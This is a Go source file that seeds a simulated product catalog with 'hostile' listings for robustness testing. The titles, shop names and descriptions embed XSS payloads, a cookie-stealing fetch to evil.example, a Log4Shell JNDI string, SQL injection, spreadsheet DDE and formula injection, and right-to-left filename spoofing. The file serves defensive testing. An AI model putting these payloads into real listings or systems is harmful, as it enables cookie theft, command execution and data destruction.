package world

import "strings"

// Hostile products carry the text that real listings sometimes carry and that breaks careless
// code: markup and script, quotes that end an HTML attribute, spreadsheet formulas, control and
// bidirectional characters, emoji, a 1,000-character title and an empty one. They sit among
// ordinary products in popular categories with high best-match scores, so ordinary searches
// ("phone case", "wireless earbuds", "led strip lights") meet them on their first page.

// hostileSpec is one hostile product.
type hostileSpec struct {
	id    int64
	kid   int64  // second-level category
	title string // as listed
	desc  string // product description HTML
	shop  int    // 0: an ordinary shop; 1, 2: one of the hostile shops
	// colors, when set, are the seller's own names for the Color values.
	colors []string
}

// hostileShopNames are the names of the two hostile shops (shop index 0 and 1).
var hostileShopNames = [2]string{
	`<script>alert('shop')</script> Official Store`,
	`=HYPERLINK("http://evil.example","shop") Store`,
}

// Hostile product IDs are fixed so that every catalog, whatever its seed, has them.
const (
	hostileScript    int64 = 1005001873541209
	hostileAttr      int64 = 1005002216730458
	hostileHyperlink int64 = 1005002409917316
	hostilePlus      int64 = 1005002785460037
	hostileMinus     int64 = 1005003051228874
	hostileAt        int64 = 1005003302871590
	hostileTab       int64 = 1005003566042771
	hostileCR        int64 = 1005003781005642
	hostileRTL       int64 = 1005004017736285
	hostileEmoji     int64 = 1005004260918833
	hostileLong      int64 = 1005004498107764
	hostileEmpty     int64 = 1005004711629350
	hostileImg       int64 = 1005001590337718
	hostileTitleTag  int64 = 1005001948205561
	hostileTemplate  int64 = 1005002650043927
	hostileSQL       int64 = 1005003127789016
	hostileDDE       int64 = 1005003895512479
	hostileJSLink    int64 = 1005004150394406
	hostileEntities  int64 = 1005004386621153
	hostileZeroWidth int64 = 1005004820017682
	hostileNewlines  int64 = 1005005033871297
	hostileLongWord  int64 = 1005005208846110
	hostileBidi      int64 = 1005005461190624
)

// referenceID is the product the platform reference uses in its examples; every catalog has it.
const referenceID int64 = 1005001234567890

func hostileSpecs() []hostileSpec {
	const (
		cases    = 380230
		earbuds  = 63705
		strips   = 150401
		dresses  = 200003482
		menWatch = 200214006
		smart    = 200216623
		phoneAcc = 100001205
		necklace = 200000109
		packs    = 152401
		audio    = 100000310
		periph   = 200002342
		plush    = 100001622
	)
	long := "Phone Case "
	for len(long) < 1000 {
		long += "Shockproof Silicone Matte Cover Camera Protection for iPhone 15 Pro Max "
	}
	long = long[:1000]

	scriptDesc := `<div><p>Best case!</p><script>alert("desc")</script><p onclick="alert(2)">Click me</p></div>`
	return []hostileSpec{
		{id: hostileScript, kid: cases, shop: 1,
			title:  `<script>alert("xss")</script> Shockproof Phone Case for iPhone 15 Pro Max`,
			desc:   scriptDesc,
			colors: []string{`<b>Red</b>`, `Black" onclick="alert(1)`, `=1+2`, `Blue`}},
		{id: hostileAttr, kid: cases,
			title: `Clear Phone Case " onmouseover="alert(1)" data-x=" for Samsung Galaxy S24 Ultra`,
			desc:  `<div><img src="x" onerror="alert('img')"><p title="a" onmouseover="alert(1)">Clear case</p></div>`},
		{id: hostileHyperlink, kid: cases, shop: 2,
			title: `=HYPERLINK("http://evil.example","click") Magnetic Phone Case for iPhone 14`,
			desc:  `<p>=HYPERLINK("http://evil.example","click")</p><p>Magnetic case</p>`},
		{id: hostilePlus, kid: cases,
			title: `+SUM(1,2) Leather Wallet Phone Case for Xiaomi Redmi Note 13`,
			desc:  `<p>+SUM(1,2)</p><iframe src="http://evil.example/frame"></iframe>`},
		{id: hostileMinus, kid: cases,
			title: `-2+3 Silicone Phone Case Matte Cover for Google Pixel 8`,
			desc:  `<p>-2+3</p><style>body{display:none}</style><p>Silicone case</p>`},
		{id: hostileAt, kid: cases,
			title: `@SUM(A1) Cute Cartoon Phone Case for iPhone 13 Pro`,
			desc:  `<p>@SUM(A1)</p><svg onload="alert(1)"></svg>`},
		{id: hostileTab, kid: cases,
			title: "\tTab Leading Phone Case Soft TPU Cover for iPhone 16 Pro",
			desc:  "<p>\tStarts with a tab</p>"},
		{id: hostileCR, kid: cases,
			title: "\rCarriage Return Phone Case Armor Bumper for Samsung Galaxy A54",
			desc:  "<p>\rStarts with a carriage return</p>"},
		{id: hostileRTL, kid: cases,
			title: "Glitter Phone Case \u202Egnp.exe\u202C for iPhone 16 Pro",
			desc:  "<p>Right-to-left override: \u202Etxt.exe</p>"},
		{id: hostileEmoji, kid: cases,
			title: "🔥📱 Luxury Phone Case 💯✨ Glitter Cover for iPhone 15 😍👍🏽",
			desc:  "<p>🔥🔥🔥 Best seller 💯 👨‍👩‍👧‍👦</p>"},
		{id: hostileLong, kid: cases, title: long,
			desc: "<p>" + strings.Repeat("Long description. ", 400) + "</p>"},
		{id: hostileEmpty, kid: cases, title: "", desc: ""},
		{id: hostileImg, kid: earbuds, shop: 1,
			title: `<img src=x onerror=alert(document.cookie)> Wireless Earbuds Bluetooth 5.3 ANC Headphones`,
			desc:  `<div><img src=x onerror=alert(document.cookie)><a href="javascript:alert(1)">Specs</a></div>`},
		{id: hostileTitleTag, kid: strips,
			title: `</title><script>fetch('http://evil.example/?c='+document.cookie)</script> LED Strip Lights RGB 5050`,
			desc:  `</textarea></title><script>document.write('owned')</script>`},
		{id: hostileTemplate, kid: dresses,
			title: `Women's Summer Maxi Dress {{.Secret}} ${jndi:ldap://evil.example/a} %s %v %!d(MISSING) 100% Cotton`,
			desc:  `<p>{{template "x"}} {{.}} ${7*7} #{7*7} %s%s%s%n</p>`},
		{id: hostileSQL, kid: menWatch,
			title: `Robert'); DROP TABLE products;-- Men Watch Quartz Luxury`,
			desc:  `<p>' OR '1'='1' --</p><p>"; DELETE FROM users; --</p>`},
		{id: hostileDDE, kid: smart, shop: 2,
			title: `=cmd|' /C calc'!A0 Smart Watch Bluetooth Call Heart Rate`,
			desc:  `<p>=cmd|' /C calc'!A0</p><p>@SUM(1+1)*cmd|' /C calc'!A0</p>`},
		{id: hostileJSLink, kid: phoneAcc,
			title: `Fast Charger <a href="javascript:alert(1)">65W GaN</a> USB C for iPhone 15 Pro Max`,
			desc:  `<a href="javascript:alert(1)">Buy</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">More</a>`},
		{id: hostileEntities, kid: necklace,
			title: `Necklace &lt;b&gt;escaped twice&lt;/b&gt; &amp;amp; Gold Plated Heart Pendant & Chain`,
			desc:  `<p>&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;</p>`},
		{id: hostileZeroWidth, kid: packs,
			title: "Back\u200Bpack Lap\u200Dtop Backpack Z\u0351\u0352\u0353algo\uFEFF USB Charging for Travel",
			desc:  "<p>Zero\u200Bwidth and com\u0301bining marks</p>"},
		{id: hostileNewlines, kid: audio,
			title: "Portable Speaker\nLine Two\tTabbed\r\nCRLF Bluetooth Speaker Bass Boost",
			desc:  "<p>Line one\nLine two\r\nLine three</p>"},
		{id: hostileLongWord, kid: periph,
			title: "Gaming Mouse RGB " + strings.Repeat("A", 300) + " Wireless Mouse",
			desc:  "<p>" + strings.Repeat("W", 2000) + "</p>"},
		{id: hostileBidi, kid: plush,
			title: "لعبة Plush Toy צעצוע Teddy Bear \u2067isolate\u2069 Stuffed Animal",
			desc:  "<p dir=\"rtl\">لعبة جميلة</p>"},
	}
}

// HostileIDs lists the IDs of every hostile product. They are the same in every catalog, are
// listed from before Epoch and never disappear.
func HostileIDs() []int64 {
	specs := hostileSpecs()
	ids := make([]int64, len(specs))
	for i, h := range specs {
		ids[i] = h.id
	}
	return ids
}
